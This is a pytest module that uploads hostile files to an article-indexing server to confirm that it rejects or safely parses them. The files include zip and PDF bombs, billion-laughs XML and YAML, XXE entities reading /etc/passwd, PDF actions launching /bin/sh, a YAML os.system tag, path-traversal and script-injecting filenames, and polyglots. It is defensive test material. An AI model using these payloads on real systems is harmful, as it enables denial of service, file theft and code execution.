"""Files made to harm: each is uploaded to a running server, which refuses or reads it and is none the worse for it.

None takes more than 10 s or 512 MB, fetches anything, or leaves a process, a file or half an article behind.
"""

import io
import struct
import tempfile
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import docx
import httpx
import pytest
from _pytest.mark.structures import ParameterSet
from conftest import ScriptedAssistant, Served, serving
from sites import Site, site
from test_index_docx import changed, packed
from test_index_parse import SMALL, bomb, children

SECONDS = 10
MEMORY = 512_000_000
SENTENCE = "The old crane stays at its place until a buyer is found for all of it. "
PLAIN = b"The old crane stays.\n"


def zipped(*files: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files:
            archive.writestr(name, content)
    return out.getvalue()


def document(*paragraphs: str) -> bytes:
    made = docx.Document()
    for paragraph in paragraphs or (SENTENCE,):
        made.add_paragraph(paragraph)
    return packed(made)


def with_part(part: str, content: bytes) -> bytes:
    """A DOCX with one part replaced or added."""
    with zipfile.ZipFile(io.BytesIO(document())) as old:
        return zipped(*((name, old.read(name)) for name in old.namelist() if name != part), (part, content))


def in_body(opening: bytes, times: int, inner: bytes) -> bytes:
    """A DOCX that begins with nested elements."""
    closing = b"".join(b"</" + tag for tag in reversed(opening.split(b"<")[1:]))
    nested = opening * times + inner + closing * times
    return changed(document(), lambda xml: xml.replace(b"<w:body>", b"<w:body>" + nested))


def with_entities(words: bytes, entities: bytes) -> bytes:
    """A DOCX that begins with these words, and a document type that says what its entities are."""

    def change(xml: bytes) -> bytes:
        xml = xml[xml.index(b"<w:document") :].replace(SENTENCE.encode(), words + SENTENCE.encode())
        return b"<!DOCTYPE x [" + entities + b"]>" + xml

    return changed(document(), change)


def laughs() -> bytes:
    """Ten to the power of nine laughs."""
    lists = b"".join(b'<!ENTITY a%d "%b">' % (number, b"&a%d;" % (number - 1) * 10) for number in range(1, 10))
    return with_entities(b"&a9;", b'<!ENTITY a0 "laughs ">' + lists)


def overlapping() -> bytes:
    """A thousand entries that all unpack the same ten million bytes."""
    one = zipped(("word/document.xml", bytes(10_000_000)))
    directory = one.index(b"PK\x01\x02")
    end = one.index(b"PK\x05\x06")
    entry = one[directory:end]
    last = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1000, 1000, len(entry) * 1000, directory, 0)
    return one[:directory] + entry * 1000 + last


def lying() -> bytes:
    """Entries that say ten bytes and unpack to a gigabyte."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = b"".join(packer.compress(bytes(10_000_000)) for _ in range(100)) + packer.flush()
    name = b"[Content_Types].xml"
    sizes = struct.pack("<3L2H", 0, len(stream), 10, len(name), 0)
    local = b"PK\x03\x04" + struct.pack("<5H", 20, 0, 8, 0, 33) + sizes + name + stream
    entry = b"PK\x01\x02" + struct.pack("<6H", 20, 20, 0, 8, 0, 33) + sizes + bytes(12) + name
    return local + entry + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(entry), len(local), 0)


def crowded() -> bytes:
    """A million would not fit into the twenty megabytes that are taken."""
    count = 200_000
    entry = (
        b"PK\x01\x02" + struct.pack("<6H3L5H2L", *(20, 20, 0, 0, 0, 33), *(0, 0, 0), *(1, 0, 0, 0, 0), *(0, 0)) + b"a"
    )
    local = b"PK\x03\x04" + struct.pack("<5H3L2H", 20, 0, 0, 0, 33, 0, 0, 0, 1, 0) + b"a"
    size = len(entry) * count
    far = b"PK\x06\x06" + struct.pack("<Q2H2L4Q", 44, 45, 45, 0, 0, count, count, size, len(local))
    locator = b"PK\x06\x07" + struct.pack("<LQL", 0, len(local) + size, 1)
    last = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 65535, 65535, 2**32 - 1, 2**32 - 1, 0)
    return local + entry * count + far + locator + last


def encrypted_zip() -> bytes:
    """A DOCX of which each entry says that it is encrypted."""
    content = bytearray(document())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        while place >= 0:
            content[place + at] |= 1
            place = content.find(mark, place + 4)
    return bytes(content)


def pdf_of(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from 1, without a table of where they stand."""
    body = b"".join(b"%d 0 obj\n%b\nendobj\n" % (number, each) for number, each in enumerate(objects, start=1))
    return b"%PDF-1.7\n" + body + b"trailer << /Root 1 0 R >>\n%%EOF"


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def in_small(old: bytes, new: bytes) -> bytes:
    assert old in SMALL
    return SMALL.replace(old, new)


def with_actions(canary: str) -> bytes:
    actions = b"/OpenAction << /S /JavaScript /JS (app.launchURL('%b/js')) /Next << /S /URI /URI (%b/uri) /Next << "
    more = b"/S /Launch /F (/bin/sh) /Next << /S /SubmitForm /F (%b/form) >> >> >> >>"
    return in_small(b"/Type /Catalog", b"/Type /Catalog " + (actions + more) % ((canary.encode(),) * 3))


def with_embedded_file() -> bytes:
    file = b"/Names << /EmbeddedFiles << /Names [(../../x) << /Type /Filespec /F (../../x) /EF << /F 5 0 R >> >>] >> >>"
    return in_small(b"/Type /Catalog", b"/Type /Catalog " + file)


def encrypted_pdf() -> bytes:
    return in_small(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Nobody /V 9 /R 9 >>")


def one_page_often() -> bytes:
    return in_small(b"/Kids [4 0 R] /Count 1", b"/Kids [%b] /Count 1000" % (b"4 0 R " * 1000))


def own_form() -> bytes:
    shown = b"/Resources << /XObject << /X 4 0 R >> >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R %b >>" % shown
    form = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] %b /Length 5 >>\nstream\n/X Do\nendstream" % shown
    return pdf_of(CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, form)


def own_table() -> bytes:
    """A PDF whose table of places says that an earlier one stands where it stands itself."""
    at = SMALL.index(b"xref")
    return in_small(b"/Root", b"/Prev %d /Root" % at)


def object_stream_bomb() -> bytes:
    """An object stream that unpacks to half a gigabyte."""
    packer = zlib.compressobj(9)
    stream = b"".join(packer.compress(b" " * 10_000_000) for _ in range(50)) + packer.flush()
    packed_objects = b"<< /Type /ObjStm /N 1000000 /First 100 /Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream"
    return pdf_of(b"<< /Type /Catalog /Pages 9 0 R >>", packed_objects % (len(stream), stream))


def own_ancestor() -> bytes:
    made = docx.Document()
    first, second = made.styles.add_style("One", 1), made.styles.add_style("Two", 1)
    made.add_paragraph(SENTENCE, style="One")
    first.base_style, second.base_style = second, first
    return packed(made)


def outside_parts(canary: str) -> bytes:
    made = docx.Document()
    made.add_paragraph(SENTENCE)
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    for name in ("image", "attachedTemplate", "oleObject", "hyperlink", "frame"):
        made.part.relate_to(f"{canary}/{name}", kind + name, is_external=True)
    return packed(made)


def outside_entities(canary: str) -> bytes:
    named = b'<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "%b/xxe">' % canary.encode()
    return with_entities(b"&f;&h;", named)


def outside_type(canary: str) -> bytes:
    declared = b'<!DOCTYPE x SYSTEM "%b/dtd">' % canary.encode()
    return changed(document(), lambda xml: declared + xml[xml.index(b"<w:document") :])


def wide_cell() -> bytes:
    row = b'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="100000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'
    return changed(document(), lambda xml: xml.replace(b"<w:body>", b"<w:body>" + row))


def front_matter(title: str) -> bytes:
    return f"---\ntitle: {title}\n---\n{SENTENCE}".encode()


def front_matter_laughs() -> bytes:
    lists = "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 10))
    return front_matter(f"a\na0: &a0 [laughs]\n{lists}author: *a9")


def front_matter_merges() -> bytes:
    maps = "".join(f"a{n}: &a{n}\n  <<: [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 10))
    return front_matter(f"a\na0: &a0 {{b: c}}\n{maps}")


def long_front_matter() -> bytes:
    return b"---\ntitle: a\n" + b"b: [c, d]\n" * 400_000 + b"---\n" + PLAIN


LINE = f"<p>{SENTENCE * 9}</p>"


def page(body: str, head: str = "") -> bytes:
    return f"<html><head>{head}</head><body>{body}</body></html>".encode()


def with_much_to_fetch(canary: str) -> bytes:
    tags = "".join(
        f'<{tag} src="{canary}/{tag}" href="{canary}/{tag}" data="{canary}/{tag}" background="{canary}/{tag}">'
        for tag in ("img", "iframe", "script", "embed", "object", "video", "audio", "source", "input", "body")
    )
    head = (
        f'<base href="{canary}/base"><link rel="stylesheet" href="{canary}/link"><link rel="canonical" href="{canary}/">'
        f'<meta http-equiv="refresh" content="0;url={canary}/meta"><style>@import url({canary}/style)</style>'
    )
    return page(f"<article>{LINE}</article>{tags}", head)


def attributes() -> bytes:
    return page(LINE + "<p " + " ".join(f"a{number}=1" for number in range(1_000_000)) + ">")


def long_attribute() -> bytes:
    return page(LINE + '<p title="' + "x" * 10_000_000 + '">')


def entities() -> bytes:
    kind = b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
    return kind + page(LINE + "<p>&e; &#0; &#xD800; &#x110000; &lol9;" + SENTENCE)


@dataclass(frozen=True, slots=True)
class Case:
    """A hostile file, and what becomes of it: a status, and words of its article's text or of the problem's detail."""

    make: Callable[[str], bytes]
    """Takes the canary's address."""
    status: int
    words: str
    name: bytes = b"a.docx"
    media_type: str = "application/octet-stream"


def calls(label: str, make: Callable[[str], bytes], *expected: Any) -> ParameterSet:
    """A case whose file names a canary."""
    return pytest.param(Case(make, *expected), id=label)


def case(label: str, made: bytes | Callable[[], bytes], *expected: Any) -> ParameterSet:
    return calls(label, lambda _: made if isinstance(made, bytes) else made(), *expected)


READ = SENTENCE.strip()
BROKEN = "being broken or too large"
CASES = [
    case("docx: one large part", lambda: zipped(("word/document.xml", bytes(101_000_000))), 422, "unpacks to 101 MB"),
    case("docx: bomb in a bomb", lambda: zipped(("a.zip", zipped(("b.zip", bytes(99_000_000))))), 422, BROKEN),
    case("docx: entries that overlap", overlapping, 422, "unpacks to 10,000 MB"),
    case("docx: entries that lie about their sizes", lying, 422, BROKEN),
    case("docx: 200,000 entries", crowded, 422, "holds 200,000 files, over the limit of 10,000"),
    case("docx: an entry that climbs", lambda: with_part("../../climbed.txt", PLAIN), 201, READ),
    case("docx: encrypted entries", encrypted_zip, 422, BROKEN),
    case("docx: a zip of something else", lambda: zipped(("a.txt", PLAIN)), 422, BROKEN),
    case("docx: a billion laughs", laughs, 422, BROKEN),
    case("docx: a million nested elements", lambda: with_part("word/document.xml", b"<a>" * 1_000_000), 422, BROKEN),
    case("docx: nested content controls", lambda: in_body(b"<w:sdt><w:sdtContent>", 120, b""), 201, READ),
    case("docx: nested tables", lambda: in_body(b"<w:tbl><w:tr><w:tc>", 60, b"<w:p/>"), 201, READ),
    case("docx: a cell of a hundred million columns", wide_cell, 201, READ),
    case("docx: a style based on itself", own_ancestor, 201, READ),
    calls("docx: entities from outside", outside_entities, 422, "holds no text", b"a.docx"),
    calls("docx: a document type from outside", outside_type, 201, READ, b"a.docx"),
    calls("docx: pictures and templates from outside", outside_parts, 201, READ, b"a.docx"),
    case("pdf: a page that unpacks to half a gigabyte", bomb, 422, BROKEN, b"a.pdf"),
    case("pdf: objects that unpack to half a gigabyte", object_stream_bomb, 422, BROKEN, b"a.pdf"),
    case("pdf: pages that hold themselves", lambda: in_small(b"[4 0 R]", b"[2 0 R]"), 422, BROKEN, b"a.pdf"),
    case("pdf: a million pages claimed", lambda: in_small(b"/Count 1", b"/Count 1000000"), 422, BROKEN, b"a.pdf"),
    case("pdf: one page a thousand times", one_page_often, 201, "old crane", b"a.pdf"),
    case("pdf: a page without bounds", lambda: in_small(b"600 800]", b"1e30 1e30]"), 201, "old crane", b"a.pdf"),
    calls("pdf: scripts, programs and addresses to open", with_actions, 201, "old crane", b"a.pdf"),
    case("pdf: an embedded file", with_embedded_file, 201, "old crane", b"a.pdf"),
    case("pdf: a table that names itself", own_table, 201, "old crane", b"a.pdf"),
    case("pdf: encrypted in no known way", encrypted_pdf, 422, "broken PDF", b"a.pdf"),
    case("pdf: a form that shows itself", own_form, 422, "holds no text", b"a.pdf"),
    case("pdf: truncated", SMALL[:300], 422, "broken PDF", b"a.pdf"),
    case("pdf: nested arrays", lambda: pdf_of(CATALOG, b"[" * 100_000), 422, "broken PDF", b"a.pdf"),
    case("html: 100,000 nested tags", lambda: page(LINE + "<div>" * 100_000 + LINE), 201, READ, b"a.html"),
    case("html: 20,000 nested quotes", lambda: page(LINE + "<blockquote>" * 20_000), 201, READ, b"a.html"),
    case("html: a million attributes", attributes, 422, "took over 8 seconds", b"a.html"),
    case("html: an attribute of ten megabytes", long_attribute, 201, READ, b"a.html"),
    case("html: a word of two megabytes", lambda: page(LINE + "x" * 2_000_000), 201, READ, b"a.html"),
    case("html: line breaks", lambda: page("word<br><br>" * 10_000), 201, "word", b"a.html"),
    case("html: tags without an end", lambda: b"<" * 300_000, 422, "holds no article text", b"a.html"),
    case("html: declarations without an end", lambda: b"<?xml" * 100_000, 422, "holds no article text", b"a.html"),
    case("html: UTF-7", lambda: page(LINE + "+ADw-b+AD4-", "<meta charset=utf-7>"), 201, "+ADw-b", b"a.html"),
    case("html: entities", entities, 201, "&e;", b"a.html"),
    calls("html: much to fetch", with_much_to_fetch, 201, READ, b"a.html"),
    case("text: NULs before the text", bytes(1000) + PLAIN, 201, "The old crane", b"a.txt"),
    case("text: nothing but NULs", bytes(4_000_000), 422, "is empty", b"a.txt"),
    case("text: five million lines", lambda: b"a\n" * 5_000_000, 413, "has 10,000,000 characters", b"a.txt"),
    case("text: as many lines as are taken", lambda: b"a\n" * 2_500_000, 201, "a\na\na", b"a.txt"),
    case("text: a word of twenty megabytes", lambda: b"x" * 20_000_000, 413, "has 20,000,000 characters", b"a.txt"),
    case("text: twenty megabytes of accents", lambda: b"\xe9a" * 9_999_999, 422, "UTF-8", b"a.txt"),
    case("text: half a surrogate pair", PLAIN + b"\xed\xa0\xbd", 201, "The old crane", b"a.txt"),
    case("text: UTF-16 of an odd length", "The old crane".encode("utf-16") + b"x", 422, "UTF-8", b"a.txt"),
    case("text: UTF-32", "The old crane".encode("utf-32"), 201, "The old crane", b"a.txt"),
    case("text: UTF-32 beyond Unicode", b"\xff\xfe\0\0" + b"\xff" * 8, 422, "UTF-8", b"a.txt"),
    case("text: a byte order mark alone", b"\xef\xbb\xbf", 422, "is empty", b"a.txt"),
    case("text: right to left", "\u202eenarc dlo ehT".encode(), 201, "\u202eenarc", b"a.txt"),
    case("markdown: brackets", lambda: b"[" * 2_000_000, 201, "[[[", b"a.md"),
    case("markdown: nested quotes", lambda: b"> " * 1_000_000 + b"a", 201, "> > a", b"a.md"),
    case("front matter: a billion laughs", front_matter_laughs, 201, READ, b"a.md"),
    case("front matter: merges without end", front_matter_merges, 201, READ, b"a.md"),
    case("front matter: four megabytes", long_front_matter, 201, "The old crane", b"a.md"),
    case("front matter: a program", front_matter("!!python/object/apply:os.system [touch x]"), 201, "touch", b"a.md"),
    case("front matter: what its tag does not take", front_matter("!!bool ''"), 201, "!!bool", b"a.md"),
    case("front matter: a number of 9,000 digits", front_matter("0x" + "f" * 9000), 201, "0xfff", b"a.md"),
    case("name: climbs", PLAIN, 201, "old crane", b"../../../etc/passwd"),
    case("name: a device", PLAIN, 201, "old crane", b"CON"),
    case("name: 5,000 characters", PLAIN, 400, "multipart", b"x" * 5000 + b".txt"),
    case("name: 4,000 characters", PLAIN, 201, "old crane", b"x" * 4000 + b".txt"),
    case("name: a line break", PLAIN, 400, "multipart", b"a\r\nX-Other: 1\r\n.txt"),
    case("name: a NUL", PLAIN, 201, "old crane", b"a\0.txt"),
    case("name: no UTF-8", PLAIN, 201, "old crane", b"\xff\xfe.txt"),
    case("name: markup", PLAIN, 201, "old crane", b"<img src=x onerror=alert(1)>.txt"),
    case("name: empty", PLAIN, 201, "old crane", b""),
    case("name: dots", PLAIN, 201, "old crane", b".."),
    case("type: a PDF as text", SMALL, 201, "old crane", b"a.txt", "text/plain"),
    case("type: text as a PDF", PLAIN, 422, "broken PDF", b"a.txt", "application/pdf"),
    case("type: a DOCX as a page", document, 422, "is not text", b"a.docx", "text/html"),
    case("type: a page as a DOCX", page(LINE), 422, "broken DOCX", b"a.html", DOCX),
    case("type: a program", b"MZ" + bytes(100), 415, "of no kind that can be read", b"a.exe"),
    case("polyglot: a PDF that is a zip", lambda: SMALL + zipped(("a", bytes(9_000_000))), 201, "old crane"),
    case("polyglot: a page that is a DOCX", lambda: page(LINE) + document(), 201, READ),
    case("polyglot: a picture that is a page", lambda: b"GIF89a/*" + page(LINE), 201, READ, b"a.html"),
]


@pytest.fixture(scope="module")
def canary() -> Iterator[Site]:
    with site() as running:
        yield running


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """The working folder, which is that for temporary files as well."""
    made = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as patched:
        patched.chdir(made)
        patched.setenv("TMPDIR", str(made))
        patched.setattr(tempfile, "tempdir", None)
        yield made


@pytest.fixture(scope="module")
def served(folder: Path) -> Iterator[Served]:
    with serving(ScriptedAssistant([], {})) as running:
        yield running


def send(served: Served, given: Case, content: bytes) -> httpx.Response:
    """Uploads as no well-behaved client would: the name goes out byte for byte."""
    head = b'--b\r\nContent-Disposition: form-data; name="file"; filename="' + given.name + b'"\r\nContent-Type: '
    body = head + given.media_type.encode() + b"\r\n\r\n" + content + b"\r\n--b--\r\n"
    headers = {"content-type": "multipart/form-data; boundary=b"}
    return httpx.post(f"{served.url}/api/articles", content=body, headers=headers, trust_env=False, timeout=60)


def listed(served: Served) -> list[str]:
    """The titles of all articles."""
    articles = httpx.get(f"{served.url}/api/articles", trust_env=False).json()["articles"]
    return [article["title"] for article in articles]


def text_of(served: Served, article: str) -> str:
    """The text of an article, which is then removed."""
    address = f"{served.url}/api/articles/{article}"
    text = httpx.get(address, trust_env=False, timeout=60).json()["text"]
    httpx.delete(address, trust_env=False)
    return str(text)


@contextmanager
def measured(before: set[str]) -> Iterator[list[int]]:
    """The most memory that each new child process ever had, in bytes, as the system counts it."""
    most: dict[str, int] = {}
    over = threading.Event()

    def look() -> None:
        while not over.wait(0.005):
            for child in children() - before:
                try:
                    status = Path(f"/proc/{child}/status").read_text(encoding="utf-8")
                except OSError:
                    continue
                high = next((line for line in status.splitlines() if line.startswith("VmHWM")), "0 0 kB")
                most[child] = int(high.split()[1]) * 1024  # before it is a Python of its own, that of this process

    peaks: list[int] = []
    watching = threading.Thread(target=look)
    watching.start()
    try:
        yield peaks
    finally:
        over.set()
        watching.join()
        peaks += most.values()


@pytest.mark.parametrize("given", CASES)
def test_a_hostile_file_harms_nothing(served: Served, canary: Site, folder: Path, given: Case) -> None:
    content = given.make(canary.url(""))
    processes, files = children(), set(folder.rglob("*"))
    started = time.monotonic()
    with measured(processes) as peaks:
        response = send(served, given, content)
    took = time.monotonic() - started
    added = listed(served)
    told = text_of(served, response.json()["id"]) if response.is_success else response.json()["detail"]
    assert (response.status_code, len(added)) == (given.status, int(response.is_success)), told[:500]
    assert given.words in told
    assert response.is_success or ("\n" not in told and str(folder) not in told)
    assert all(title.strip() and title.isprintable() for title in added)
    assert took < SECONDS
    assert max(peaks, default=0) < MEMORY
    assert children() == processes
    assert set(folder.rglob("*")) == files
    assert canary.hits == []
    assert served.status("/api/health") == 200
